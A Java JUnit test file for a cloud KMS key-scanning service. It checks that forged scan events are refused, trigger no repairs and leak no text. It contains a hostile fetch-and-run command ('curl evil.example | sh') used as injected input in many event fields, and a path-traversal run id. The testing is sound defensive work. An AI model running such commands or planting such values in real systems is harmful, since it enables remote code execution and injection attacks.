package cmek.function;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cmek.client.pubsub.TopicsInProcess.Published;
import cmek.fake.Sample;
import cmek.fake.Scans;
import cmek.finding.TransientException;
import cmek.model.CryptoKeyName;
import cmek.result.Status;
import cmek.scan.RunId;
import io.cloudevents.CloudEvent;
import io.cloudevents.core.builder.CloudEventBuilder;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * What somebody could put on a topic of the scan who got past IAM, while repair is on and every key would have something to
 * repair. Nothing that an event claims is reported, nothing is repaired because of it, and no text of it is shown to anybody.
 */
class ForgedScanEventsTest {

    /** What must not come out of any function. */
    private static final String COMMAND = "curl evil.example | sh";

    private static final CryptoKeyName HEALTHY = key("acme-kms-prod", "healthy");
    private static final CryptoKeyName VICTIM = key("acme-kms-prod", "victim");
    private static final CryptoKeyName LOOSE = key("acme-kms-prod", "loose");
    private static final CryptoKeyName NOT_ALLOWED = key("other-kms", "foreign");
    private static final CryptoKeyName NEVER_REGISTERED = key("acme-kms-prod", "never");
    private static final String CHANGE = RunId.ofChange(Sample.NOW, "entry").value();

    private final ScanHarness apis = new ScanHarness(Scans.REPAIRING);

    @BeforeEach
    void keysThatHaveLostTheirGrants() {
        attached(HEALTHY, "ekey_healthy");
        apis.kms.withLabels(HEALTHY, Sample.LABELS).withPolicy(HEALTHY, Sample.GRANTED);
        attached(VICTIM, "ekey_victim");
        attached(NOT_ALLOWED, "ekey_foreign");
        apis.kms.withLabels(NOT_ALLOWED, Sample.LABELS).withPolicy(NOT_ALLOWED, Sample.GRANTED);
        apis.kms.withKey(LOOSE, Map.of());
        apis.anthropic.withKey("ekey_loose", LOOSE.toString(), Sample.NOW);
        apis.kms.withKey(NEVER_REGISTERED, Map.of());
    }

    /** What is forged at scanKey. */
    enum Forgery {
        A_RUN_THAT_NEVER_BEGAN(event("scan-20260101T000000Z-00000000", "ekey_healthy", HEALTHY, "")),
        A_KEY_THAT_NOBODY_REGISTERED(event(ScanHarness.RUN.value(), "ekey_never", NEVER_REGISTERED, "")),
        ANOTHER_KEYS_REGISTRATION(event(ScanHarness.RUN.value(), "ekey_victim", HEALTHY, "")),
        ANOTHER_KEY_OF_A_REGISTRATION(event(ScanHarness.RUN.value(), "ekey_healthy", NEVER_REGISTERED, "")),
        A_CHANGE_OF_A_KEY_THAT_NOBODY_REGISTERED(event(CHANGE, "ekey_never", NEVER_REGISTERED, change("x@y.z"))),
        A_CHANGE_OF_ANOTHER_KEYS_REGISTRATION(event(CHANGE, "ekey_victim", HEALTHY, change("x@y.z"))),
        A_CHANGE_THAT_WILL_BE(
                event(CHANGE, "ekey_never", NEVER_REGISTERED, change("x@y.z").replace("2026-11-23", "2999-11-23"))),
        A_CHANGE_WITHOUT_A_CHANGE(event(CHANGE, "ekey_victim", VICTIM, "")),
        A_CHANGE_BY_A_COMMAND(event(CHANGE, "ekey_victim", VICTIM, change(COMMAND))),
        A_CHANGE_THAT_IS_A_COMMAND(
                event(CHANGE, "ekey_victim", VICTIM, change("x@y.z").replace("SetIamPolicy", COMMAND))),
        A_PATH(event("scan-20261123T020000Z-../../../../", "ekey_healthy", HEALTHY, ""));

        private final String data;

        Forgery(String data) {
            this.data = data;
        }
    }

    @ParameterizedTest
    @EnumSource(Forgery.class)
    void isRefusedAndNothingIsKeptOrRepaired(Forgery forgery) {
        apis.scan();
        List<String> kept = apis.storage.names();

        apis.handler().scanKey(message(forgery.data));

        assertThat(apis.results("REFUSED")).singleElement().satisfies(result -> {
            assertThat(result.path("step").asText()).isEqualTo("scanKey");
            assertThat(result.path("reason").asText()).isEqualTo("UNREADABLE");
        });
        assertThat(apis.results()).hasSize(2);
        assertThat(apis.storage.names()).isEqualTo(kept);
        assertThat(apis.kms.writes()).isEmpty();
        assertNothingOfTheForgerIsShown();
    }

    /** All that an event of an earlier release said of a registration beside its name. */
    @ParameterizedTest
    @CsvSource({"ekey_victim, victim, UNHEALTHY", "ekey_loose, loose, UNHEALTHY", "ekey_healthy, healthy, HEALTHY"})
    void whatAnEventSaysOfARegistrationIsIgnored(String id, String name, String status) {
        apis.scan();

        apis.handler()
                .scanKey(message(event(ScanHarness.RUN.value(), id, key("acme-kms-prod", name), "")
                        .replace("\"key\":{", """
                                "patientUntil":"2999-01-01T00:00:00.000Z","warnings":["%1$s"],"key":{"attached":true,"displayName":"%1$s",
                                 "standing":[{"reason":"REGISTERED_NOT_ATTACHED","message":"%1$s","remedy":["%1$s"]}],
                                 "workspaces":[{"id":"wrkspc_forged","name":"%1$s","archived":false}],""".formatted(COMMAND))));

        assertThat(apis.results(status)).hasSize(1);
        assertThat(apis.report(id).key().attached()).isEqualTo(!id.equals("ekey_loose"));
        assertThat(apis.kms.writes()).isEmpty();
        assertNothingOfTheForgerIsShown();
    }

    /** A process before this one may have kept what a forged event said. */
    @Test
    void whatWasKeptOfAnotherKeyIsNotReportedOfARegistration() {
        apis.scan();
        apis.handler().scanKey(message(event(ScanHarness.RUN.value(), "ekey_healthy", HEALTHY, "")));
        String healthy = apis.storage.text("runs/" + ScanHarness.RUN + "/keys/ekey_healthy.json");
        apis.storage.write(
                "runs/" + ScanHarness.RUN + "/keys/ekey_victim.json", healthy.replace("ekey_healthy", "ekey_victim"));

        apis.deliver();

        assertThat(apis.report().keys())
                .filteredOn(row -> row.key().equals(VICTIM))
                .singleElement()
                .satisfies(row -> assertThat(row.status()).isNotEqualTo(Status.HEALTHY));
    }

    @Test
    void aRunThatNeverBeganIsNotReported() {
        apis.handler()
                .reportScan(message("{\"schemaVersion\":2,\"run\":\"scan-20260101T000000Z-00000000\",\"faults\":[\""
                        + COMMAND + "\"]}"));

        assertThat(apis.results())
                .singleElement()
                .satisfies(result -> assertThat(result.path("status").asText()).isEqualTo("REFUSED"));
        assertThat(apis.storage.names()).isEmpty();
        assertNothingOfTheForgerIsShown();
    }

    @Test
    void whatStartsAScanSaysNothingOfIt() {
        apis.handler()
                .startScan(message("{\"expected\":[],\"faults\":[{\"reason\":\"NOT_REACHED\",\"message\":\"" + COMMAND
                        + "\",\"remedy\":[\"" + COMMAND + "\"]}]}"));

        assertThat(apis.results("SCAN_STARTED")).singleElement().satisfies(result -> {
            assertThat(result.path("run").path("expected").asInt()).isEqualTo(4);
            assertThat(result.path("warnings")).isEmpty();
        });
        assertNothingOfTheForgerIsShown();
    }

    /** What an audit log calls the one who changed a key is shown, but never as a sentence or a command. */
    @ParameterizedTest
    @CsvSource({"SetIamPolicy, victim", "UpdateCryptoKey, victim", "UpdateCryptoKey, never"})
    void anEntryOfAnAuditLogHasAKeyCheckedAndRepairsNothing(String method, String name) {
        apis.handler().rescanChangedKey(message("""
                {"insertId":"%3$s","timestamp":"2026-11-23T02:00:00Z","remedy":["%3$s"],"protoPayload":{
                 "serviceName":"cloudkms.googleapis.com","methodName":"%1$s","resourceName":"%2$s",
                 "authenticationInfo":{"principalEmail":"%3$s"},"status":{"message":"%3$s"}}}
                """.formatted(method, key("acme-kms-prod", name), COMMAND)));
        apis.deliver();

        assertThat(apis.results()).hasSize(name.equals("never") ? 0 : 1);
        assertThat(apis.kms.writes()).isEmpty();
        assertNothingOfTheForgerIsShown();
    }

    @ParameterizedTest
    @CsvSource({"startScan", "scanKey", "reportScan", "rescanChangedKey"})
    void aDeadLetterEndsWithOurOwnWords(String step) {
        CloudEvent letter = CloudEventBuilder.v1(message("{\"warnings\":[\"" + COMMAND + "\"]}"))
                .withData(
                        "application/json",
                        ("{\"message\":{\"messageId\":\"9\",\"publishTime\":\"2026-11-23T02:00:00Z\",\"attributes\":{\"step\":\""
                                        + step + "\",\"runId\":\"" + COMMAND + "\",\"reason\":\"" + COMMAND
                                        + "\"},\"data\":\"e30=\"}}")
                                .getBytes(java.nio.charset.StandardCharsets.UTF_8))
                .build();

        apis.handler().handleDeadLetter(letter);

        assertThat(apis.results("FAILED")).hasSize(1);
        assertNothingOfTheForgerIsShown();
    }

    /** Nobody has the lists read for ever by naming what is not in them. */
    @Test
    void whileTheListsMayNotBeReadAgainAChangeWaits() {
        apis.handler().scanKey(message(Forgery.A_CHANGE_OF_A_KEY_THAT_NOBODY_REGISTERED.data));
        apis.pass(Duration.ofSeconds(30));
        CloudEvent later = message(
                event(CHANGE, "ekey_never", NEVER_REGISTERED, change("x@y.z").replace("02:00:00", "02:00:20")));
        assertThatThrownBy(() -> apis.handler().scanKey(later)).isInstanceOf(TransientException.class);
        apis.pass(Duration.ofSeconds(31));

        apis.handler().scanKey(later);

        assertThat(apis.results("REFUSED")).hasSize(2);
    }

    private void assertNothingOfTheForgerIsShown() {
        assertThat(apis.topics.published())
                .extracting(Published::json)
                .noneMatch(json -> json.contains("evil.example |"));
        assertThat(apis.topics.published())
                .extracting(Published::json)
                .noneMatch(json -> json.contains("wrkspc_forged"));
        assertThat(apis.storage.names())
                .allSatisfy(name -> assertThat(apis.storage.text(name)).doesNotContain(COMMAND, "wrkspc_forged"));
    }

    private void attached(CryptoKeyName key, String id) {
        apis.kms.withKey(key, Map.of());
        apis.anthropic
                .withKey(id, key.toString(), Sample.NOW)
                .withWorkspace("wrkspc_" + key.name(), "Payments")
                .attach("wrkspc_" + key.name(), id);
    }

    private static CryptoKeyName key(String project, String name) {
        return new CryptoKeyName(project, "us-east5", "anthropic", name);
    }

    private static String event(String run, String id, CryptoKeyName key, String more) {
        return "{\"schemaVersion\":2,\"run\":\"" + run + "\",\"key\":{\"id\":\"" + id + "\",\"key\":\"" + key + "\"}"
                + more + "}";
    }

    private static String change(String principal) {
        return ",\"change\":{\"method\":\"SetIamPolicy\",\"principal\":\"" + principal
                + "\",\"at\":\"2026-11-23T02:00:00.000Z\"}";
    }

    private static CloudEvent message(String data) {
        return ScanHarness.message("5", data, Sample.NOW);
    }
}
